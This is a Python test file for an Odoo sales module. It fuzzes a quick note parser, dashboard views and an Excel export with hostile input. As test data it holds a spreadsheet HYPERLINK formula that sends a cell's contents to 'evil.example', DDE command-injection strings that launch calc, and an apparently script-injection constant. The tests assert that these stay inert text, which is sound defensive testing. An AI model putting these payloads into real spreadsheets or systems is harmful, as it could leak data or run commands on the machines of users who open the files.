"""Hostile input (see hostile.py) over RPC and HTTP: the quick note parser, the
dashboard and morning views, the Excel export."""

import html
import io
import re
from datetime import date, datetime, timedelta
from urllib.parse import urlencode

import openpyxl
import pytz
from freezegun import freeze_time
from hypothesis import given, settings
from hypothesis import strategies as st

from odoo import fields
from odoo.exceptions import UserError
from odoo.tests import HttpCase, new_test_user, tagged

from ..lib import quick_note
from .hostile import (
    CI,
    DATES_FORMAT,
    DATETIMES,
    DST_EDGES,
    HOSTILE_TEXT,
    ID_LISTS,
    IDS,
    JSON,
    NOW_FORMAT,
    PERIOD_ORDER,
    PERIOD_RANGE,
    RECENT_DAYS,
    SCRIPT,
    TEXT,
    TIMEZONES,
    HostileCase,
    HostileMixin,
    either,
    in_range,
)


@tagged("post_install", "-at_install")
class TestHostileRpc(HostileCase):
    """The quick note parser, the dashboard and morning views and the word cloud,
    called over RPC with anything."""

    # ------------------------------------------------------------------
    # Quick note, dashboard and morning views over RPC
    # ------------------------------------------------------------------

    @settings(CI, max_examples=30)
    @given(
        case=either(
            st.tuples(
                st.one_of(TEXT, st.sampled_from(["客户嫌安装慢，明天下午3点电话", "demo tomorrow 10am"])),
                st.one_of(st.none(), st.datetimes(datetime(1900, 1, 1)).map(fields.Datetime.to_string)),
            ),
            st.tuples(
                st.one_of(HOSTILE_TEXT, JSON),
                st.one_of(
                    st.none(),
                    DATETIMES.map(fields.Datetime.to_string),
                    st.sampled_from([local.isoformat(" ") for _zone, local in DST_EDGES]),
                    JSON,
                ),
            ),
        ),
        tz=st.sampled_from(TIMEZONES),
        utc_now=st.datetimes(min_value=datetime(2026, 1, 1), max_value=datetime(2026, 12, 31)),
    )
    def test_parse_quick_note_over_rpc(self, case, tz, utc_now):
        valid, (text, now) = case
        self._count_outcome("valid input" if valid else "hostile input")
        utc_now = utc_now.replace(microsecond=0)
        try:
            moment = (
                fields.Datetime.to_datetime(now)
                if now and isinstance(now, str)
                else None
                if not now
                else False
            )
        except ValueError:
            moment = False
        refusals = [(UserError, NOW_FORMAT)] if moment is False else []
        self.assertEqual(refusals if valid else [], [], "the strategy of valid notes made invalid ones")
        if moment is None:  # the current time where the salesperson is
            moment = pytz.utc.localize(utc_now).astimezone(pytz.timezone(tz)).replace(tzinfo=None)
        with self._example(), freeze_time(utc_now):
            self.salesman.tz = tz
            Visit = self.env["crm.anchor.visit"].with_user(self.salesman)
            result, _error = self._attempt(lambda: Visit.parse_quick_note(text, now), refusals)
            if result is not None:
                # The parser's reading of the note, at the moment given or the user's now.
                self.assertEqual(result, quick_note.parse(text or "", moment))

    def test_followups_at_dst_edges_in_the_users_timezone(self):
        """A note parsed at a missing (New York) or repeated (Berlin) local hour
        gives the wall-clock time; the page turns it into UTC in the user's
        zone (entry_queue.js), and the agreed action falls due on that local day."""
        cases = [
            # zone, UTC now, note, local follow-up, its UTC hour, UTC of that day's 08:50 deadline
            (
                "America/New_York",
                datetime(2026, 3, 8, 6, 59),
                "今天下午3点打电话",
                "2026-03-08 15:00:00",
                19,
                12,
            ),
            (
                "America/New_York",
                datetime(2026, 3, 8, 7, 1),
                "tomorrow 10am demo",
                "2026-03-09 10:00:00",
                14,
                12,
            ),
            ("Europe/Berlin", datetime(2026, 10, 25, 0, 30), "明天上午10点演示", "2026-10-26 10:00:00", 9, 7),
            (
                "Europe/Berlin",
                datetime(2026, 10, 25, 1, 30),
                "今天下午3点打电话",
                "2026-10-25 15:00:00",
                14,
                7,
            ),
        ]
        Visit = self.env["crm.anchor.visit"].with_user(self.salesman)
        for zone, utc_now, note, local, utc_hour, deadline_hour in cases:
            with self.subTest(zone=zone, utc_now=utc_now), self._example(), freeze_time(utc_now):
                self.salesman.tz = zone
                tz = pytz.timezone(zone)
                local_now = pytz.utc.localize(utc_now).astimezone(tz).replace(tzinfo=None)
                parsed = Visit.parse_quick_note(note)
                self.assertEqual(parsed, Visit.parse_quick_note(note, fields.Datetime.to_string(local_now)))
                self.assertEqual(parsed["date_next_followup"], local)
                followup = tz.localize(fields.Datetime.to_datetime(local)).astimezone(pytz.utc)
                self.assertEqual(followup.hour, utc_hour)
                visit = self._visit(
                    self.visit_lead, date_next_followup=followup.replace(tzinfo=None), state="submitted"
                )
                self.assertEqual(str(visit.activity_id.date_deadline), local[:10])
                self.assertIn(local[:16], str(visit.activity_id.note))
                # The morning check-in deadline (08:50 local) of that day, in UTC.
                checkin = self.env["crm.anchor.checkin"].create(
                    {"user_id": self.salesman.id, "team_id": self.team.id, "date": local_now.date()}
                )
                deadline = checkin._deadline(8 + 50 / 60)
                expected = datetime.combine(local_now.date(), datetime.min.time()).replace(
                    hour=deadline_hour, minute=50
                )
                self.assertLess(abs(deadline - expected), timedelta(seconds=1))

    @staticmethod
    def _period_refusals(date_from, date_to, team_ids, user_ids):
        """The rules a dashboard or morning view asked for with these arguments breaks."""
        refusals = []
        try:
            if not all(not value or isinstance(value, (str, date)) for value in (date_from, date_to)):
                raise ValueError
            start, end = fields.Date.to_date(date_from), fields.Date.to_date(date_to)
        except ValueError:
            refusals.append((UserError, DATES_FORMAT))
        else:
            if not start or not end or start > end:
                refusals.append((UserError, PERIOD_ORDER))
            elif not (in_range(start) and in_range(end)):
                refusals.append((UserError, PERIOD_RANGE))
        for ids in (team_ids, user_ids):
            if ids and not (
                isinstance(ids, (list, tuple))
                and all(type(i) is int and 0 < i < 2**31 for i in ids)  # True is no id
            ):
                refusals.append((UserError, ID_LISTS))
                break
        return refusals

    @settings(CI, max_examples=20)
    @given(
        case=either(
            st.tuples(
                st.lists(RECENT_DAYS, min_size=2, max_size=2).map(sorted),
                st.one_of(st.none(), st.lists(st.integers(1, 50), max_size=2)),
                st.one_of(st.none(), st.lists(st.integers(1, 50), max_size=2)),
            ),
            st.tuples(
                st.lists(st.one_of(RECENT_DAYS, st.dates().map(str), JSON), min_size=2, max_size=2),
                st.one_of(st.none(), st.lists(st.integers(1, 50), max_size=2), IDS, JSON),
                st.one_of(st.none(), st.lists(st.integers(1, 50), max_size=2), IDS, JSON),
            ),
        ),
        model=st.sampled_from(["crm.anchor.dashboard", "crm.anchor.morning"]),
    )
    def test_dashboard_and_morning_views_with_bad_arguments(self, case, model):
        valid, ((date_from, date_to), team_ids, user_ids) = case
        self._count_outcome("valid input" if valid else "hostile input")
        refusals = self._period_refusals(date_from, date_to, team_ids, user_ids)
        self.assertEqual(refusals if valid else [], [], "the strategy of valid arguments made invalid ones")
        with self._example():
            Model = self.env[model].with_user(self.manager)
            data, _error = self._attempt(
                lambda: Model.get_data(date_from, date_to, team_ids, user_ids), refusals
            )
            if data is not None:
                self.assertEqual(
                    (data["period"]["date_from"], data["period"]["date_to"]),
                    (str(fields.Date.to_date(date_from)), str(fields.Date.to_date(date_to))),
                )

    def test_word_cloud_words_are_plain_text(self):
        """The morning view's words are data, rendered by OWL with t-esc
        (tests/unit checks the templates): no markup is added nor kept."""
        self._visit(
            self.visit_lead,
            pain_summary=f"{SCRIPT} 交期太长 delivery delays",
            date_visit=fields.Datetime.now() - timedelta(hours=2),
            date_next_followup=self._followup(),
            state="submitted",
        )
        today = fields.Date.context_today(self.env.user)
        data = self.env["crm.anchor.morning"].get_data(
            str(today - timedelta(days=2)), str(today + timedelta(days=1)), user_ids=[self.salesman.id]
        )
        words = {entry["word"] for entry in data["words"]}
        self.assertIn("交期", words)
        self.assertFalse({word for word in words if set(word) & set("<>&\"'")}, words)


@tagged("post_install", "-at_install")
class TestHostileXlsx(HostileMixin, HttpCase):
    """The dashboard's Excel export: bad parameters are a 400 with a message,
    and names that look like formulas stay text."""

    FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.team = cls.env.ref("sales_action_anchor.crm_team_anchor")
        cls.manager = new_test_user(cls.env, "hostile_xlsx_manager", groups="sales_team.group_sale_manager")
        cls.rep = new_test_user(
            cls.env, "hostile_xlsx_rep", groups="sales_team.group_sale_salesman", name=cls.FORMULA_NAME
        )
        cls.team.member_ids |= cls.manager | cls.rep
        lead = cls.env["crm.lead"].create(
            {
                "name": SCRIPT,
                "type": "opportunity",
                "team_id": cls.team.id,
                "user_id": cls.rep.id,
                "partner_id": cls.env["res.partner"].create({"name": "@SUM(1+1)*cmd|' /C calc'!A0"}).id,
                "stage_id": cls.env.ref("sales_action_anchor.stage_anchor_lead").id,
            }
        )
        cls.env["crm.anchor.visit"].create(
            {
                "lead_id": lead.id,
                "user_id": cls.rep.id,
                "pain_category_id": cls.env.ref("sales_action_anchor.pain_category_price").id,
                "pain_summary": "=cmd|' /C calc'!A0 客户说安装太慢，影响交付",
                "value_point": "+1+1",
                "agreed_action": "send_quote",
                "date_next_followup": fields.Datetime.now() + timedelta(days=2),
                "followup_channel": "phone",
                "state": "submitted",
                "signal_ids": [(6, 0, cls.env.ref("sales_action_anchor.signal_second_quote").ids)],
            }
        )

    def _get(self, **params):
        return self.url_open(f"/sales_action_anchor/dashboard/xlsx?{urlencode(params)}")

    @staticmethod
    def _expected_response(params):
        """The status and message the export answers ``params`` with: its
        parameters are read in order, the first that is wrong is named."""
        dates = {}
        for name in ("date_from", "date_to"):
            value = params.get(name)
            if not value:
                return 400, f"Missing parameter {name}: a date as YYYY-MM-DD."
            try:
                if not re.fullmatch(r"\d{4}-\d{2}-\d{2}", value):
                    raise ValueError(value)
                dates[name] = date.fromisoformat(value)
            except ValueError:
                return 400, f"Invalid {name} “{value}”: expected a date as YYYY-MM-DD."
        if dates["date_from"] > dates["date_to"]:
            return 400, "The start date (date_from) must not be after the end date (date_to)."
        ids = {}
        for name in ("team_ids", "user_ids"):
            value = (params.get(name) or "").replace(" ", "")
            if value and not re.fullmatch(r"\d+(,\d+)*", value):
                return 400, f"Invalid {name} “{value}”: expected ids separated by commas, e.g. 3,7."
            ids[name] = [int(i) for i in value.split(",")] if value else []
        # Then the dashboard's own rules, as for any client.
        if not (in_range(dates["date_from"]) and in_range(dates["date_to"])):
            return 400, PERIOD_RANGE
        if any(not 0 < i < 2**31 for i in ids["team_ids"] + ids["user_ids"]):
            return 400, ID_LISTS
        return 200, None

    @settings(CI, max_examples=12)
    @given(
        case=either(
            st.fixed_dictionaries(
                {"date_from": RECENT_DAYS, "date_to": st.just("2027-12-31")},
                optional={
                    "team_ids": st.lists(st.integers(1, 50), max_size=3).map(
                        lambda ids: ",".join(map(str, ids))
                    )
                },
            ),
            st.dictionaries(
                st.sampled_from(["date_from", "date_to", "team_ids", "user_ids"]),
                st.one_of(
                    TEXT.filter(lambda text: "\x00" not in text),  # a URL cannot carry NUL
                    st.dates().map(str),
                    st.sampled_from(["0001-01-01", "9999-12-31", "99999999999", "1,2,99999999999", SCRIPT]),
                ),
            ),
        )
    )
    def test_bad_parameters_are_a_400_with_a_message(self, case):
        valid, params = case
        self._count_outcome("valid input" if valid else "hostile input")
        self.authenticate("hostile_xlsx_manager", "hostile_xlsx_manager")
        params = {"date_from": "2026-01-01", "date_to": "2026-01-31", **params}
        status, message = self._expected_response(params)
        self.assertEqual(status if valid else 200, 200, "the strategy of valid parameters made invalid ones")
        response = self._get(**params)
        self._count_outcome(f"HTTP {response.status_code}")
        self.assertEqual(response.status_code, status, response.text[:300])
        if status == 400:
            self.assertIn("Bad Request", response.text)
            # Werkzeug's page shows each line break as <br>.
            self.assertIn(message, html.unescape(response.text.replace("<br>", "\n")))
            self.assertNotIn("Traceback", response.text)
            self.assertNotIn("<script>", response.text)
        else:
            workbook = openpyxl.load_workbook(io.BytesIO(response.content))
            self.assertEqual(workbook.worksheets[0].title, "Stages")

    def test_formula_like_names_are_written_as_text(self):
        self.authenticate("hostile_xlsx_manager", "hostile_xlsx_manager")
        today = fields.Date.today()
        response = self._get(date_from=str(today - timedelta(days=7)), date_to=str(today + timedelta(days=7)))
        self.assertEqual(response.status_code, 200, response.text[:300])
        workbook = openpyxl.load_workbook(io.BytesIO(response.content))
        cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
        # No cell holds a formula (xlsxwriter's write() would make one of "=..."): user text is text.
        self.assertFalse([cell.coordinate for cell in cells if cell.data_type == "f"])
        texts = {cell.value for cell in cells if cell.data_type == "s"}
        self.assertIn(self.FORMULA_NAME, texts)
        self.assertTrue([text for text in texts if text.endswith("@SUM(1+1)*cmd|' /C calc'!A0")], texts)
